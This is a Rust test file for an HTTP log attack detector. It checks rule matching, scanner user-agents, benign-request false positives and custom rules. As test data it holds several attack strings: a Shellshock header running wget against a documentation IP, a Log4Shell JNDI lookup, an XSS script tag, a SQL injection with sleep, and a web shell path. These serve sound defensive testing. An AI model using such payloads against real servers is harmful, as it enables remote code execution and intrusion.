use super::*;

fn record<'a>(method: &'a [u8], target: &'a [u8], agent: &'a [u8], status: u16) -> Record<'a> {
    Record {
        time_ms: Some(0),
        method,
        target,
        user_agent: agent,
        status,
        ..Record::default()
    }
}

fn classes(rules: &RuleSet, target: &str, agent: &str) -> Vec<(AttackClass, String)> {
    let mut detector = Detector::new(Arc::new(rules.clone()));
    let mut hits = Vec::new();
    detector.detect(
        &record(b"GET", target.as_bytes(), agent.as_bytes(), 200),
        &mut hits,
    );
    hits.iter()
        .map(|h| (rules.rule(h.rule).class, rules.rule(h.rule).id.clone()))
        .collect()
}

#[test]
fn every_builtin_example_is_found_by_its_rule() {
    let rules = RuleSet::builtin();
    let (mut out, mut scratch) = (Vec::new(), Vec::new());
    for rule in BUILTIN_RULES {
        for example in rule.examples {
            // The rule's own regex matches the normalised example…
            normalize(example.as_bytes(), &mut out, &mut scratch, true);
            let text: &[u8] = if rule.part == Part::Path {
                &out[..memchr::memchr(b'?', &out).unwrap_or(out.len())]
            } else {
                &out
            };
            let regex = RegexBuilder::new(rule.pattern)
                .unicode(false)
                .build()
                .unwrap();
            let m = regex
                .find(text)
                .unwrap_or_else(|| panic!("{}: pattern misses {example:?}", rule.id));
            // …the match contains one of its keywords (so the prefilter
            // can never hide a match)…
            let matched = m.as_bytes().to_ascii_lowercase();
            assert!(
                rule.keywords
                    .iter()
                    .any(|k| memchr::memmem::find(&matched, k.as_bytes()).is_some()),
                "{}: match {:?} holds none of its keywords",
                rule.id,
                String::from_utf8_lossy(&matched)
            );
            // …and the whole detector reports its class.
            let found = classes(&rules, example, "Mozilla/5.0");
            assert!(
                found.iter().any(|(class, _)| *class == rule.class),
                "{}: detector missed {example:?}: {found:?}",
                rule.id
            );
        }
    }
}

#[test]
fn scanner_and_header_attacks_in_the_user_agent() {
    let rules = RuleSet::builtin();
    let check = |agent: &str, class: AttackClass| {
        let found = classes(&rules, "/", agent);
        assert!(
            found.iter().any(|(c, _)| *c == class),
            "{agent:?}: {found:?}"
        );
    };
    check(
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        AttackClass::Scanner,
    );
    check(
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
        AttackClass::Scanner,
    );
    check("Fuzz Faster U Fool v2.1.0", AttackClass::Scanner);
    check("Mozilla/5.0 zgrab/0.x", AttackClass::Scanner);
    check(
        "() { :; }; /bin/bash -c 'wget http://198.51.100.3/x'",
        AttackClass::Rce,
    );
    check("${jndi:ldap://198.51.100.4:1389/a}", AttackClass::Rce);
    check("<script>alert(1)</script>", AttackClass::Xss);
}

/// Benign traffic that looks odd: none of it may raise an attack.
#[test]
fn benign_odd_requests_raise_nothing() {
    let rules = RuleSet::builtin();
    let benign = [
        "/",
        "/index.html",
        "/news/2026/11/20/content_123456.html",
        // Chinese path segments and queries, percent-encoded.
        "/%E6%94%BF%E5%8A%A1%E5%85%AC%E5%BC%80/%E9%80%9A%E7%9F%A5%E5%85%AC%E5%91%8A/index.html",
        "/search?q=%E8%B4%A2%E6%94%BF%E9%A2%84%E7%AE%97%E5%85%AC%E5%BC%80&page=2",
        // Natural-language searches with SQL words.
        "/search?q=how+to+select+a+union+representative",
        "/search?q=trade+union+select+committee+meeting",
        "/search?q=select+the+best+option+from+the+list",
        "/search?q=union+station+and+main+street",
        "/search?q=drop+table+tennis+class",
        "/search?q=rock+%27n%27+roll+or+jazz",
        "/search?q=O%27Brien+and+sons",
        "/search?q=sleep+apnea+treatment",
        "/search?q=order+by+date",
        "/search?q=javascript+tutorial+for+beginners",
        "/search?q=system+requirements",
        "/search?q=1%2B1%3D2",
        "/search?q=c%2B%2B+and+c%23",
        // Long tracking query strings and encoded redirects.
        "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=2026_winter_notice&utm_content=header_link&utm_term=budget%20report&gclid=EAIaIQobChMI8q2X3b7m9QIVh4BQBh0XcQ7bEAAYASAAEgJt9PD_BwE&fbclid=IwAR0abcdefghijklmnopqrstuvwxyz0123456789",
        "/login?redirect=https%3A%2F%2Fexample.gov.test%2Fportal%2Fhome%3Ftab%3Dnotices%26lang%3Dzh-CN",
        "/sso/callback?next=%2Faccount%2Fsettings&state=xyz&code=4%2F0AbCdEf",
        "/api/items?filter=status%3Dactive%3Border%3Ddesc&fields=id,title",
        "/static/js/app.3f9a1c.js",
        "/static/scripts/script.min.js",
        "/static/tinymce/tinymce.min.js",
        "/css/site.css?v=1.2.3",
        "/download/report-2026.pdf",
        "/about-us/contact.php",
        "/images/logo.png",
        "/wp-content/themes/gov/style.css",
        "/news/list.php?cat=3&order=desc",
        "/page?title=Union%20Select%20Committee%20Report%20(2026)",
        "/a;jsessionid=0123ABCD?x=1",
        "/files/annual_report_2026.zip",
    ];
    for target in benign {
        let found = classes(
            &rules,
            target,
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        );
        assert!(found.is_empty(), "benign {target:?} raised {found:?}");
    }
    for agent in [
        "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1 MicroMessenger/8.0.44",
        "curl/8.5.0",
        "python-requests/2.31.0",
    ] {
        let found = classes(&rules, "/", agent);
        assert!(found.is_empty(), "benign agent {agent:?} raised {found:?}");
    }
}

#[test]
fn one_hit_per_class_and_failed_shells_count_less() {
    let rules = RuleSet::builtin();
    let mut detector = Detector::new(Arc::new(rules.clone()));
    let mut hits = Vec::new();
    // Two SQL rules fire; one hit remains, the most confident.
    detector.detect(
        &record(b"GET", b"/a?id=1 union select 1,2 and sleep(5)", b"", 200),
        &mut hits,
    );
    assert_eq!(hits.len(), 1);
    assert_eq!(rules.rule(hits[0].rule).class, AttackClass::Sqli);
    hits.clear();
    detector.detect(&record(b"GET", b"/uploads/c99.php", b"", 404), &mut hits);
    assert_eq!(rules.rule(hits[0].rule).class, AttackClass::WebShell);
    assert!(hits[0].confidence < 0.5);
}

#[test]
fn custom_rules_and_errors() {
    let custom = CustomRule {
        id: "site-secret-path".into(),
        class: AttackClass::Probe,
        confidence: 0.9,
        part: Part::Path,
        post_only: false,
        keywords: vec!["/old-admin".into()],
        pattern: "^/old-admin/".into(),
    };
    let rules = RuleSet::new(&["probe-dotfiles".into()], std::slice::from_ref(&custom)).unwrap();
    assert_eq!(
        classes(&rules, "/old-admin/login", ""),
        vec![(AttackClass::Probe, "site-secret-path".to_string())]
    );
    assert!(
        classes(&rules, "/.env", "").is_empty(),
        "disabled rule still fires"
    );
    let broken = CustomRule {
        pattern: "(".into(),
        ..custom.clone()
    };
    let no_keywords = CustomRule {
        keywords: vec![],
        ..custom
    };
    let errors = RuleSet::new(&["no-such-rule".into()], &[broken, no_keywords]).unwrap_err();
    assert_eq!(errors.len(), 3, "{errors:?}");
}
